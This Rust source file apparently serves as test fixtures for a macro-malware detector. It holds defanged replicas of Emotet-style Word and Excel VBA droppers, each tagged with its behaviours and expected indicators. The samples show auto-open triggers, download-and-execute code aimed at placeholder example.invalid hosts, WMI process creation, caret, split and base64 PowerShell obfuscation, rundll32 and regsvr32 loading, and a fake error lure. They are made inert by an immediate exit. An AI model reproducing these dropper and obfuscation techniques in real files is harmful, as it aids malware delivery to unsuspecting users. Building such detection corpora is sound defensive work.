//! The waves of Emotet that began with VBA, oldest first.

use super::{Replica, replica};
use crate::sketch::Office::{Excel, Word};

pub(super) const REPLICAS: &[Replica] = &[
    replica(
        "2016: a request, a stream, a start",
        Word,
        &[
            "trigger.document-open",
            "network.http",
            "write.stream",
            "execution.script-host",
        ],
        &["https://example.invalid/inert.exe"],
        r#"
'# standard Module1
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim request As Object, body As Object
    Set request = CreateObject("MSXML2.XMLHTTP")
    request.Open "GET", "https://example.invalid/inert.exe", False
    request.send
    Set body = CreateObject("ADODB.Stream")
    body.Type = 1
    body.Open
    body.Write request.responseBody
    body.SaveToFile Environ("TEMP") & "\inert.exe", 2
    CreateObject("WScript.Shell").Run Environ("TEMP") & "\inert.exe"
End Sub
"#,
    ),
    replica(
        "2016: the same behind characters and turned round, in three modules",
        Word,
        &["trigger.document-open", "network.http"],
        &[
            "https://example.invalid/reports/inert.exe",
            "WinHttp.WinHttpRequest.5.1",
        ],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Call Kiwi.Peel
End Sub
'# standard Kiwi
Public Sub Peel()
    If Now > 0 Then Exit Sub
    Dim pear As Object
    Set pear = CreateObject(Plum(96, 114, 119, 81, 125, 125, 121, 55, 96, 114, 119, 81, 125, 125, 121, 91, 110, 122, 126, 110, 124, 125, 55, 62, 55, 58))
    pear.Open StrReverse("TEG"), Plum(113, 125, 125, 121, 124, 67, 56, 56, 110, 129, 106, 118, 121, 117, 110, 55, 114, 119, 127, 106, 117, 114, 109, 56, 123, 110, 121, 120, 123, 125, 124, 56, 114, 119, 110, 123, 125, 55, 110, 129, 110), 0
    pear.send
    Call Quince(pear.responseBody, Environ(StrReverse("PMET")) & Plum(101, 114, 119, 110, 123, 125, 55, 110, 129, 110))
End Sub
Function Plum(ParamArray seeds() As Variant) As String
    Dim seed
    For Each seed In seeds
        Plum = Plum & Chr(seed - 9)
    Next seed
End Function
'# standard Basket
Sub Quince(bytes As Variant, place As String)
    If Now > 0 Then Exit Sub
    Dim stone As Object
    Set stone = CreateObject(StrReverse("maertS.BDODA"))
    stone.Type = 1: stone.Open: stone.Write bytes: stone.SaveToFile place, 2
    Set stone = CreateObject(StrReverse("noitacilppA.llehS"))
    stone.Open place
End Sub
"#,
    ),
    replica(
        "2016: functions of the system",
        Word,
        &["trigger.document-open", "network.download", "execution.api"],
        &["https://example.invalid/gate/inert.exe"],
        r#"
'# standard Loader
#If VBA7 Then
Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal url As String, ByVal file As String, ByVal r As Long, ByVal c As LongPtr) As Long
Private Declare PtrSafe Function Launch Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As LongPtr, ByVal verb As String, ByVal file As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr
#Else
Private Declare Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal url As String, ByVal file As String, ByVal r As Long, ByVal c As Long) As Long
Private Declare Function Launch Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As Long, ByVal verb As String, ByVal file As String, ByVal p As String, ByVal d As String, ByVal s As Long) As Long
#End If
Sub Auto_Open()
    AutoOpen
End Sub
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim u As String, f As String
    u = "https://exam" & "ple.inva" & "lid/gate/in" & "ert.exe"
    f = Environ("APPDATA") & "\" & "inert" & ".e" & "xe"
    If Fetch(0, u, f, 0, 0) = 0 Then Launch 0, "op" & "en", f, "", "", 0
End Sub
"#,
    ),
    replica(
        "2017-11: pieces from functions, cmd, PowerShell",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["powershell inert-test.invalid"],
        r#"
'# standard jKzWqRw
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    On Error Resume Next
    vTzPq = Sin(4421) + Cos(117) - 88213 / 7 * Tan(5)
    Shell wRtZ + pLmK + "e^rs" + qAzX, 0
    vTzPq = Atn(212) * CDbl(63) + Log(9)
End Sub
Function wRtZ()
    kJhG = 35 * 117 - Sqr(881)
    wRtZ = "cmd " + "/V:" + "ON /" + "C"" set "
    wRtZ = wRtZ + "nq=ell inert-test.invalid"
End Function
Function pLmK()
    mNbV = Rnd + 54 / 3
    pLmK = "&& set " + "ab=p" + "^ow" + ""
End Function
Function qAzX()
    qAzX = "^h&& !ab" + "!!n" + "q!"""
End Function
"#,
    ),
    replica(
        "2017-11: a long variable of cmd, read by places",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["cmd /c set"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    TwvIz
End Sub
'# standard Bqfw
Sub TwvIz()
    If Now > 0 Then Exit Sub
    Dim OwnC(3)
    OwnC(0) = "cmd /c " & "set z=dilavni.tset-tre"
    OwnC(1) = "ni llehsrewop"
    OwnC(2) = "&& for /L %i in (28,-1,0) do set y=!y!!z:~%i,1!"
    OwnC(3) = "&& call %y%"
    Interaction@.Shell$ Join(OwnC, ""), vbHide
End Sub
"#,
    ),
    replica(
        "2017-11: carets and the name of the shell in the environment",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["powershell -w hidden inert-test.invalid"],
        r#"
'# document ThisDocument
Sub Document_Open()
    If Now > 0 Then Exit Sub
    a1 = "%Com" + "Spec% /c "
    a2 = "p^o^w^e" + "^r^s^h" + "^e^l^l" + " -w hi^dd^en i^n^e^rt"
    a3 = "-t^est.in" + "v^alid"
    VBA.Shell$ a1 + a2 + a3, 0 * 5
End Sub
"#,
    ),
    replica(
        "2018-11: the code that came in Word 2003 XML",
        Word,
        &["trigger.document-open", "execution.shell"],
        &["cmd /c powershell inert-test.invalid"],
        r#"
'# standard iTwpZ
Sub autoopen()
    If Now > 0 Then Exit Sub
On Error Resume Next
   Select Case zLjR
      Case 61772
         uQdK = 7 - CByte(KlwQ) - 12 / Oct(YbTi)
   End Select
   Shell (CStr(zQwH + rTnV + hJcF))
   Select Case pNwQ
      Case 4411
         uQdK = Hex(54) - ChrB(38) * 99
   End Select
End Sub
Function zQwH()
zQwH = "c" + "md /c" + " po"
End Function
Function rTnV()
For Each wVbK In sKjD
   If wVbK = 82 Then xWnL = 9
Next
rTnV = "we" + "rsh" + "ell "
End Function
Function hJcF()
hJcF = "iner" + "t-te" + "st.inv" + "alid"
End Function
"#,
    ),
    replica(
        "2018-12: a chain of functions and a text in a shape",
        Word,
        &["trigger.document-open", "execution.shell"],
        &[],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Shell$ ActiveDocument.Shapes("qtrmx").AlternativeText, vbHide
End Sub
"#,
    ),
    replica(
        "2019-04: a script is written and started",
        Word,
        &["trigger.document-open", "write.program", "execution.shell"],
        &["wscript", "inert.js"],
        r#"
'# standard Module1
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim n As Integer, p As String
    p = Environ("TE" & "MP") & "\iner" & "t.js"
    n = FreeFile
    Open p For Output As #n
    Print #n, "inert"
    Print #n, "inert('https://exam" & "ple.invalid/a');"
    Close #n
    Shell "wscr" & "ipt //e:jscript """ & p & """", vbHide
End Sub
"#,
    ),
    replica(
        "2019-04: a script is written by the file system object",
        Word,
        &["trigger.document-open", "execution.script-host"],
        &["inert.jse"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Write_It Path_Of("inert"), Body_Of()
    Start_It Path_Of("inert")
End Sub
'# standard Steps
Function Path_Of(n As String) As String
    Path_Of = Environ("APPDATA") & "\" & n & Mid("xx.jse", 3)
End Function
Function Body_Of() As String
    Dim c: For Each c In Array(105, 110, 101, 114, 116, 40, 41, 59)
        Body_Of = Body_Of & Chr(c)
    Next
End Function
Sub Write_It(p As String, t As String)
    If Now > 0 Then Exit Sub
    With CreateObject("Scripting.FileSystemObject").CreateTextFile(p, True)
        .Write t
        .Close
    End With
End Sub
Sub Start_It(p As String)
    If Now > 0 Then Exit Sub
    Dim sh As Object
    Set sh = CreateObject(Replace("WXXScXXript.SXXhell", "XX", ""))
    sh.Run Chr(34) & p & Chr(34), 0, False
End Sub
"#,
    ),
    replica(
        "2019-09: the command in a form, started through WMI",
        Word,
        &["trigger.document-open", "execution.wmi"],
        &["winmgmts:Win32_Process"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    pQ8
End Sub
'# standard wJ3
Sub pQ8()
    If Now > 0 Then Exit Sub
    Dim su As Object
    Set su = GetObject("winm" + "gmts:Win32_" + "Process" + "Startup")
    su.ShowWindow = 0
    GetObject("winmg" + "mts:Win32_Pro" + "cess").Create UserForm1.TextBox1.Text + UserForm1.TextBox2.Tag, Null, su, pid
End Sub
'# form UserForm1
Private Sub UserForm_Initialize()
End Sub
"#,
    ),
    replica(
        "2020-01: tags and tips of controls, the separator taken out",
        Word,
        &["trigger.document-open", "execution.wmi"],
        &[],
        r#"
'# document Xq71bn
Sub Document_Open()
    If Now > 0 Then Exit Sub
    Khs2o
End Sub
'# standard Wpl4z
Function Zzt(a)
    Zzt = Replace(a, "4k_", "")
End Function
Sub Khs2o()
    If Now > 0 Then Exit Sub
    c = Zzt("w4k_i4k_nm4k_gm4k_t4k_s4k_:W4k_in4k_32_4k_Pro4k_ce4k_ss")
    Set o = GetObject(c)
    o.Create Zzt(Tq9e.Gm5.ControlTipText) + Zzt(Tq9e.Hh1.Caption), Vb, Gk3, Lp
End Sub
'# form Tq9e
Private Sub Gm5_Change()
End Sub
"#,
    ),
    replica(
        "2020-02: PowerShell with a text in base64 of UTF-16",
        Word,
        &["trigger.document-open", "execution.wmi"],
        &["https://example.invalid/one/ https://example.invalid/two/"],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim p As String
    p = "powersh" + "ell -w hid" + "den -e "
    p = p + "aQBuAGUAcgB0ACAAaAB0AHQAcABzADoALwAvAGUAeABhAG0AcABsAGUALgBp"
    p = p + "AG4AdgBhAGwAaQBkAC8AbwBuAGUALwAgAGgAdAB0AHAAcwA6AC8ALwBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAHQAdwBvAC8A"
    Set s = GetObject("winmgmts:Win32_ProcessStartup")
    s.ShowWindow = False
    GetObject("winmgmts:Win32_Process").Create p, Null, s, n
End Sub
"#,
    ),
    replica(
        "2020-07: pieces split at a word, an object made by a class string",
        Word,
        &["trigger.document-open"],
        &["winmgmts:win32_process"],
        r#"
'# document Qd1yv
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Ajw40.Bnn2
End Sub
'# standard Ajw40
Function Rw5(Fe)
    Rw5 = Join(Split(Fe, "]xm" + "v["), "")
End Function
Function Bnn2()
    If Now > 0 Then Exit Function
    Hx = Rw5("w]xmv[in]xmv[mg]xmv[m]xmv[ts]xmv[:w]xmv[in]xmv[3]xmv[2_]xmv[pr]xmv[o]xmv[ce]xmv[ss")
    Set Oe = CreateObject(Rw5("ws]xmv[crip]xmv[t.sh]xmv[ell"))
    Set Ty = GetObject(Hx)
    Ty.Create Rw5("in]xmv[er]xmv[t-te]xmv[st.in]xmv[valid"), Kl, Mm, Nn
End Function
"#,
    ),
    replica(
        "2020-08: text of the document, cleaned, in a story range",
        Word,
        &["trigger.document-open", "execution.wmi"],
        &[],
        r#"
'# document Kj_8ww
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim r As Object, t As String
    For Each r In ActiveDocument.StoryRanges
        t = t & r.Text
    Next
    t = Replace(Replace(t, "][(s)]w", ""), vbCr, "")
    GetObject("winmgmts:win32_process").Create t, x, y, z
End Sub
"#,
    ),
    replica(
        "2020-10: names of objects by many hands",
        Word,
        &["trigger.document-open"],
        &["winmgmts:Win32_ProcessStartup"],
        r#"
'# document D5n
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Vv6o
End Sub
'# standard M1k
Public Const Ba = "winm"
Public Const Bb = "gmts" & ":"
Function Za(n): Za = Mid("Win32_ProcessStartup", 1, n): End Function
'# class Hq2
Public Function Made(ByVal t As String) As Object
    Set Made = GetObject(t)
End Function
'# standard M2k
Function Vv6o()
    If Now > 0 Then Exit Function
    Dim h As New Hq2, p As Object, s As Object
    Set s = h.Made(Ba & Bb & Za(20))
    s.ShowWindow = 11 - 11
    Set p = h.Made(Ba & Bb & Za(13))
    p.Create "inert" & "-test.invalid", Null, s, i
End Function
"#,
    ),
    replica(
        "2020-12: a false error, and carets",
        Word,
        &["trigger.document-open", "lure.fake-error"],
        &[
            "powershell -w hidden -encod",
            "inert https://example.invalid/msg",
        ],
        r#"
'# document ThisDocument
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim c As String
    c = "c" & "md cmd c" & "md /c msg %username% /v Wo" & "rd experienced an error trying to open the file. & "
    c = c & "p^owe^rs^he^l^l -w hi" & "dden -^e^nc^o^d "
    c = c & "aQBuAGUAcgB0ACAAaAB0AHQAcABzADoALwAvAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkAC8AbQBzAGcA"
    CreateObject("WScri" & "pt.Shell").Run c, 0
End Sub
"#,
    ),
    replica(
        "2020-12: the same through WMI and a form",
        Word,
        &["trigger.document-open", "execution.wmi"],
        &["msg %username%"],
        r#"
'# document A7x
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Set w = GetObject(Chr(119) & "inmgmts" & Chr(58) & "Win32_Process")
    w.Create "cmd /c m^s^g %user" & "name% /v " & F0m.T1.Value & " & " & F0m.T2.Value, , , i
End Sub
'# form F0m
"#,
    ),
    replica(
        "2021-11: a library and rundll32",
        Excel,
        &["trigger.document-open", "network.http", "execution.shell"],
        &["rundll32", "https://example.invalid/wp/inert.dll"],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Module1.Start
End Sub
'# standard Module1
Sub Start()
    If Now > 0 Then Exit Sub
    Dim list, one, h As Object, f As String, n As Integer, b() As Byte
    f = "C:\ProgramData\inert.dll"
    list = Array("https://exam" & "ple.invalid/wp/inert.dll", "https://other.inva" & "lid/inert.dll")
    Set h = CreateObject("Microsoft.XM" & "LHTTP")
    For Each one In list
        h.Open "GET", one, False
        h.send
        If h.Status = 200 Then
            b = h.responseBody
            n = FreeFile
            Open f For Binary As #n
            Put #n, , b
            Close #n
            Shell "rundll32 " & f & ",Inert"
            Exit For
        End If
    Next
End Sub
"#,
    ),
    replica(
        "2021-12: PowerShell out of cells",
        Excel,
        &["trigger.document-open", "execution.script-host"],
        &[],
        r#"
'# workbook ThisWorkbook
Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Dim c As Range, t As String
    For Each c In Sheets("Sheet2").Range("B4:B19")
        t = t & c.Value
    Next c
    CreateObject("Wscript.Shell").Run t, 0
End Sub
"#,
    ),
    replica(
        "2022: a script of VBS starts PowerShell",
        Excel,
        &["trigger.document-open", "execution.shell"],
        &["c:\\programdata\\inert.vbs", "https://example.invalid/vbs"],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Dim f As String, l As Variant
    f = "c:\progra" & "mdata\in" & "ert.v" & "bs"
    Open f For Output As #1
    For Each l In Array("Set s = Crea" & "teObject(""WScript.Shell"")", "s.Run ""powershell inert https://exam" & "ple.invalid/vbs"", 0")
        Print #1, l
    Next
    Close #1
    Shell "wscript " & f
End Sub
"#,
    ),
    replica(
        "2022: the script has its lines from a form, and starts by an object",
        Excel,
        &["trigger.document-open"],
        &[],
        r#"
'# workbook ThisWorkbook
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Drop UserForm1.Label1.Caption & vbCrLf & UserForm1.Label2.Caption
End Sub
'# standard Module5
Sub Drop(t As String)
    If Now > 0 Then Exit Sub
    Dim p As String
    p = Application.UserLibraryPath & "inert.vbs"
    CreateObject("Scripting.FileSystemObject").CreateTextFile(p).Write t
    CreateObject("Shell.Application").ShellExecute "wscript.exe", p, "", "open", 0
End Sub
'# form UserForm1
"#,
    ),
    replica(
        "2023-03: an archive is fetched, unpacked and registered",
        Word,
        &[
            "trigger.document-open",
            "network.http",
            "execution.shell-application",
        ],
        &["regsvr32", "https://example.invalid/inert.zip"],
        r#"
'# document ThisDocument
Sub Document_Open()
    If Now > 0 Then Exit Sub
    AutoOpen
End Sub
'# standard NewMacros
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim t As String, z As String, d As String
    t = Environ("TEMP")
    z = t & "\inert.zip"
    d = t & "\inert.dll"
    Get_File "https://example." & "invalid/in" & "ert.zip", z
    Set s = CreateObject("Shell.Application")
    s.Namespace(t & "\").CopyHere s.Namespace(z & "\").Items
    Name t & "\inert.tmp" As d
    CreateObject("WScript.Shell").Run "regsvr32 /s """ & d & """", 0
End Sub
Sub Get_File(u, p)
    If Now > 0 Then Exit Sub
    With CreateObject("MSXML2.ServerXMLHTTP")
        .Open "GET", u, False
        .send
        n = FreeFile
        Dim b() As Byte
        b = .responseBody
        Open p For Binary As #n
        Put #n, , b
        Close #n
    End With
End Sub
"#,
    ),
    replica(
        "2023-03: the same with functions of the system and much text between",
        Word,
        &["trigger.document-open", "network.download"],
        &["https://example.invalid/novel/inert.zip"],
        r#"
'# standard NewMacros
Private Declare PtrSafe Function U Lib "urlmon" Alias "URLDownloadToFileW" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As LongPtr, ByVal d As Long, ByVal e As LongPtr) As Long
Private Declare PtrSafe Function L Lib "kernel32" Alias "LoadLibraryW" (ByVal f As LongPtr) As LongPtr
Private Const Call_me = "It was the last house of the village and nobody lived in it."
Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim whale As String, ship As String
    whale = Mid(Call_me & "https://example.invalid/", Len(Call_me) + 1) & "novel" & Chr(47) & "inert" & ".zip"
    ship = Environ("TEMP") & "\" & Format(Now, "hhmmss") & ".zip"
    U 0, StrPtr(whale), StrPtr(ship), 0, 0
    L StrPtr(Replace(ship, ".zip", ".dll"))
End Sub
"#,
    ),
];
